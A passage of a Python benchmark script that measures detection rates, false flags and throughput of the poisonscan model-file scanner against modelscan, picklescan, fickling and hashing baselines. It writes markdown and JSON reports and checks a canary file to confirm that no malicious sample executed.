def ensure_anchor_venv() -> dict:
    if not (ANCHOR_VENV / "bin/fickling").exists():
        print(f"creating {ANCHOR_VENV} ...", file=sys.stderr)
        subprocess.run(["python3", "-m", "venv", str(ANCHOR_VENV)], check=True)
        subprocess.run([str(ANCHOR_VENV / "bin/pip"), "install", "-q", *ANCHOR_PINS], check=True)
    listing = subprocess.run([str(ANCHOR_VENV / "bin/pip"), "list", "--format", "json"], capture_output=True, text=True, check=True).stdout
    have = {p["name"].lower(): p["version"] for p in json.loads(listing)}
    versions = {t: have.get(t, "?") for t in ("modelscan", "picklescan", "fickling")}
    versions["anchor_tensorflow"] = have.get("tensorflow", "not installed (modelscan cannot scan .keras)")
    versions["anchor_h5py"] = have.get("h5py", "not installed (modelscan cannot scan .h5)")
    return versions


# --------------------------------------------------------------------------------------------
# Large files
# --------------------------------------------------------------------------------------------

# coreutils 9.1's sha256sum does not use the CPU's SHA extensions; OpenSSL (and so Python's hashlib) does,
# and is several times faster here: both are timed so the ratio is not flattered by a slow baseline.
HASH_BASELINES = {"sha256sum": ["sha256sum"], "openssl-sha256": ["openssl", "dgst", "-sha256"]}


def write_big_safetensors(path: Path, nbytes: int) -> None:
    """Header + data written directly in 64 MiB tensors, 16 MiB at a time (bounded memory)."""
    tensor_bytes = 64 * MiB
    n = max(1, nbytes // tensor_bytes)
    header, off = {}, 0
    for i in range(n):
        header[f"layers.{i}.weight"] = {"dtype": "F32", "shape": [tensor_bytes // 4 // 1024, 1024], "data_offsets": [off, off + tensor_bytes]}
        off += tensor_bytes
    hjson = json.dumps(header, separators=(",", ":")).encode()
    hjson += b" " * (-len(hjson) % 8)
    chunk = os.urandom(16 * MiB)
    with path.open("wb") as f:
        f.write(struct.pack("<Q", len(hjson)) + hjson)
        for _ in range(off // len(chunk)):
            f.write(chunk)


def write_big_torch(path: Path, nbytes: int) -> None:
    import torch

    gen = torch.Generator().manual_seed(0)
    per = 64 * MiB // 4
    sd = collections.OrderedDict((f"layers.{i}.weight", torch.rand(per // 1024, 1024, generator=gen)) for i in range(max(1, nbytes // (64 * MiB))))
    torch.save(sd, path)


def warm(path: Path) -> None:
    with path.open("rb") as f:
        while f.read(64 * MiB):
            pass


def big_files(gib: float, tools: list[str], timeout: float, work: Path, big_dir: Path | None, keep: bool) -> dict:
    nbytes = int(gib * GiB)
    tmp = Path(tempfile.mkdtemp(prefix="poisonscan-bench-big-", dir=big_dir))
    files = {"safetensors": tmp / "big.safetensors", "torch_zip": tmp / "big_checkpoint.pt"}
    results = {}
    try:
        t = time.perf_counter()
        write_big_safetensors(files["safetensors"], nbytes)
        write_big_torch(files["torch_zip"], nbytes)
        print(f"wrote big files in {time.perf_counter() - t:.1f}s: " + ", ".join(f"{p.name} {p.stat().st_size / MiB:.0f} MiB" for p in files.values()), file=sys.stderr)
        for kind, path in files.items():
            warm(path)
            size = path.stat().st_size
            rows = {}
            for name, argv in HASH_BASELINES.items():
                if shutil.which(argv[0]):
                    rc, out, err, secs = _run([*argv, str(path)], timeout, work)
                    rows[name] = {"status": "ok" if rc == 0 else "error", "seconds": secs, "mb_s": size / MiB / secs, "rc": rc}
                    print(f"  big {kind:11} {name:10} {secs:7.2f}s", file=sys.stderr)
            for tool in tools:
                r = TOOLS[tool](path, timeout, work)
                usable = r.status in ("clean", "flagged")
                rows[tool] = {"status": r.status, "seconds": r.seconds, "mb_s": size / MiB / r.seconds if usable else None, "rc": r.rc,
                              "detail": r.detail[:300], "verdict": r.verdict}
                print(f"  big {kind:11} {tool:10} {r.status:8} {r.seconds:7.2f}s  {r.detail[:90]}", file=sys.stderr)
            results[kind] = {"path": str(path), "bytes": size, "tools": rows}
            if "poisonscan" in rows:
                for name in HASH_BASELINES:
                    if name in rows:
                        results[kind][f"poisonscan_over_{name}"] = rows["poisonscan"]["seconds"] / rows[name]["seconds"]
    finally:
        if not keep:
            shutil.rmtree(tmp, ignore_errors=True)
    return results


# --------------------------------------------------------------------------------------------
# Report
# --------------------------------------------------------------------------------------------

def cell(sample: Sample, tool: str, r: Result) -> str:
    if tool == "poisonscan" and r.verdict:
        text = r.verdict.upper() if r.verdict == "fail" else r.verdict
    else:
        text = {"flagged": "FLAG", "clean": "clean", "error": "ERR", "skipped": "skip"}[r.status]
        if tool == "poisonscan" and r.status == "flagged":
            text = "ERR-flag"
    if sample.label == "malicious" and not r.flagged:
        return f"miss ({text})"
    if sample.label == "benign" and r.flagged:
        return f"FP ({text})"
    return text


def summarize(samples: list[Sample], results: dict[str, dict[str, Result]], big: dict) -> dict:
    mal = [s for s in samples if s.label == "malicious"]
    ben = [s for s in samples if s.label == "benign"]
    total_bytes = sum(s.size for s in samples)
    out = {}
    for tool, per in results.items():
        row = {
            "detected": sum(per[s.name].flagged for s in mal), "malicious": len(mal), "benign": len(ben),
            "false_flags": sum(per[s.name].flagged for s in ben),
            "errors": sum(r.status == "error" for r in per.values()), "skipped": sum(r.status == "skipped" for r in per.values()),
            "errors_on_malicious": sum(per[s.name].status == "error" for s in mal),
            "corpus_seconds": sum(r.seconds for r in per.values()),
        }
        row["corpus_mb_s"] = total_bytes / MiB / row["corpus_seconds"]
        row["median_file_seconds"] = sorted(r.seconds for r in per.values())[len(per) // 2]
        if tool == "poisonscan":
            row["fail_on_malicious"] = sum(per[s.name].verdict == "fail" for s in mal)
            row["false_fail"] = sum(per[s.name].verdict == "fail" for s in ben)
            row["false_warn"] = sum(per[s.name].verdict == "warn" for s in ben)
            row["flagged_by_error_message"] = sum(r.status == "flagged" and r.verdict is None for r in per.values())
        for kind in ("safetensors", "torch_zip"):
            if kind in big:
                row[f"big_{kind}"] = big[kind]["tools"][tool]
        out[tool] = row
    return out


def markdown(samples: list[Sample], results: dict[str, dict[str, Result]], summary: dict, big: dict, versions: dict) -> str:
    def big_cell(row, kind):
        b = row.get(f"big_{kind}")
        if b is None:
            return "skipped (--big-gib 0)"
        if b["mb_s"] is None:
            return f"n/a ({b['status']}, rc={b['rc']})"
        return f"{b['mb_s']:.0f} ({b['seconds']:.1f}s, {b['status']})"

    n_mal, n_ben = summary["poisonscan"]["malicious"], summary["poisonscan"]["benign"]
    total = sum(s.size for s in samples) / MiB
    lines = [f"Corpus: {len(samples)} files ({n_ben} benign, {n_mal} malicious), {total:.1f} MiB. "
             f"One process per file, so corpus MB/s is dominated by each tool's start-up time.", "",
             "| tool | version | detected (malicious) | of which fail | false fail (benign) | false warn (benign) | errors / skipped | MB/s corpus (median s/file) | MB/s big safetensors | MB/s big torch ckpt |",
             "|---|---|---|---|---|---|---|---|---|---|"]
    for tool, row in summary.items():
        det = f"{row['detected']}/{n_mal} ({100 * row['detected'] / n_mal:.0f}%)"
        if tool == "poisonscan":
            fail = f"{row['fail_on_malicious']}/{n_mal} ({100 * row['fail_on_malicious'] / n_mal:.0f}%)"
            ff, fw = f"{row['false_fail']}/{n_ben}", f"{row['false_warn']}/{n_ben}"
        else:
            fail, ff, fw = "—", f"{row['false_flags']}/{n_ben} (flagged)", "—"
        lines.append(f"| {tool} | {versions.get(tool, '')} | {det} | {fail} | {ff} | {fw} | {row['errors']} / {row['skipped']} | "
                     f"{row['corpus_mb_s']:.2f} ({row['median_file_seconds']:.2f}) | {big_cell(row, 'safetensors')} | {big_cell(row, 'torch_zip')} |")
    if big:
        for name in HASH_BASELINES:
            if all(name in big[k]["tools"] for k in big):
                h = {k: big[k]["tools"][name] for k in big}
                lines.append(f"| {name} | {versions.get(name, '')} | — | — | — | — | — | — | "
                             + " | ".join(f"{h[k]['mb_s']:.0f} ({h[k]['seconds']:.1f}s)" if k in h else "—" for k in ("safetensors", "torch_zip")) + " |")
        lines += ["", "MB/s on the big files = file size / wall time per process (page cache warm); a tool that reads only the pickle "
                  "or the header does not read the whole file, so its MB/s is not a read rate."]
        for name in HASH_BASELINES:
            if any(f"poisonscan_over_{name}" in big[k] for k in big):
                lines.append(f"poisonscan time / {name} time: " + ", ".join(
                    f"{k} {big[k][f'poisonscan_over_{name}']:.2f}x ({big[k]['bytes'] / GiB:.2f} GiB)" for k in big if f"poisonscan_over_{name}" in big[k]))
    tools = list(results)
    lines += ["", "Per file (miss = malicious not flagged; FP = benign flagged; poisonscan shows its verdict):", "",
              "| file | label | format | trick | " + " | ".join(tools) + " |", "|---|---|---|---|" + "---|" * len(tools)]
    for s in samples:
        trick = s.trick if len(s.trick) <= 70 else s.trick[:67] + "..."
        lines.append(f"| {s.name} | {s.label} | {s.format} | {trick} | " + " | ".join(cell(s, t, results[t][s.name]) for t in tools) + " |")
    return "\n".join(lines)


def main(argv: list[str] | None = None) -> int:
    global CORPUS
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--big-gib", type=float, default=1.0, help="size of the large safetensors and torch files (0 skips that part)")
    ap.add_argument("--big-dir", type=Path, help="where to write the large files (default: a temp dir, removed afterwards)")
    ap.add_argument("--keep-big", action="store_true", help="do not delete the large files")
    ap.add_argument("--corpus", type=Path, default=BENCH / "corpus", help="corpus folder, wiped and rebuilt (default bench/corpus)")
    ap.add_argument("--timeout", type=float, default=300.0, help="seconds per tool call")
    ap.add_argument("--tools", default=",".join(TOOLS), help="comma-separated subset of: " + ", ".join(TOOLS))
    args = ap.parse_args(argv)
    tools = [t.strip() for t in args.tools.split(",") if t.strip()]
    unknown = set(tools) - set(TOOLS)
    if unknown:
        ap.error(f"unknown tools: {', '.join(sorted(unknown))}")
    if not POISONSCAN.exists():
        sys.exit(f"{POISONSCAN} is missing: install poisonscan into .venv first")
    CORPUS = args.corpus.resolve()

    versions = ensure_anchor_venv()
    versions["poisonscan"] = subprocess.run([str(REPO / ".venv/bin/python"), "-c", "import importlib.metadata as m; print(m.version('poisonscan'))"],
                                            capture_output=True, text=True).stdout.strip()
    versions["poisonscan_git"] = subprocess.run(["git", "-C", str(REPO), "describe", "--always", "--dirty"], capture_output=True, text=True).stdout.strip()
    for name, argv in (("sha256sum", ["sha256sum", "--version"]), ("openssl-sha256", ["openssl", "version"])):
        if shutil.which(argv[0]):
            versions[name] = subprocess.run(argv, capture_output=True, text=True).stdout.splitlines()[0].strip()
    t0 = time.perf_counter()
    samples, canary, lib_versions = build_corpus(CORPUS)
    versions.update(lib_versions)
    print(f"corpus: {len(samples)} files in {CORPUS} ({time.perf_counter() - t0:.1f}s)", file=sys.stderr)

    results: dict[str, dict[str, Result]] = {}
    canary_after: dict[str, bool] = {}
    with tempfile.TemporaryDirectory(prefix="poisonscan-bench-") as work_s:
        work = Path(work_s)
        for tool in tools:
            t = time.perf_counter()
            results[tool] = {s.name: TOOLS[tool](s.path, args.timeout, work) for s in samples}
            canary_after[tool] = canary.exists()
            print(f"{tool}: {len(samples)} files in {time.perf_counter() - t:.1f}s", file=sys.stderr)
        big = {}
        if args.big_gib > 0:
            big = big_files(args.big_gib, tools, max(args.timeout, 600.0), work, args.big_dir, args.keep_big)

    summary = summarize(samples, results, big)
    table = markdown(samples, results, summary, big, versions)
    print(table)

    stamp = datetime.now().strftime("%Y%m%d-%H%M%S")
    out = BENCH / "results" / f"supply-chain-{stamp}.json"
    out.parent.mkdir(parents=True, exist_ok=True)
    out.write_text(json.dumps({
        "command": " ".join([Path(sys.executable).name, *sys.argv]),
        "host": {"platform": platform.platform(), "cpus": os.cpu_count(), "python": platform.python_version()},
        "versions": versions,
        "interpretation": {
            "poisonscan": "flagged = verdict warn or fail (from --format json); exit 2 without JSON = error, flagged only if the message names a threat",
            "modelscan": "flagged = total_issues > 0 in the -r json report; error = report errors or exit 2/4; skipped = nothing scanned and no error (exit 3)",
            "picklescan": "flagged = 'Dangerous globals: N' with N > 0 (exit 1; exit 2 = scan error, which also wins over 1)",
            "fickling": "--check-safety: exit 1 = unsafe (any stacked pickle above LIKELY_SAFE) = flagged, 0 clean, 2 parse error",
        },
        "corpus": {"dir": str(CORPUS), "samples": [asdict(s) for s in samples]},
        "results": {t: {n: asdict(r) for n, r in per.items()} for t, per in results.items()},
        "summary": summary,
        "big_files": big,
        "canary": str(canary),
        "canary_exists_after_tool": canary_after,
        "markdown": table,
    }, indent=2, default=str))
    print(f"\nwrote {out.relative_to(REPO)}")

    assert not canary.exists(), f"SAFETY: the canary {canary} exists: something loaded a malicious file ({canary_after})"
    print(f"canary {canary.name} does not exist: no payload ran")
    return 0


if __name__ == "__main__":
    sys.exit(main())
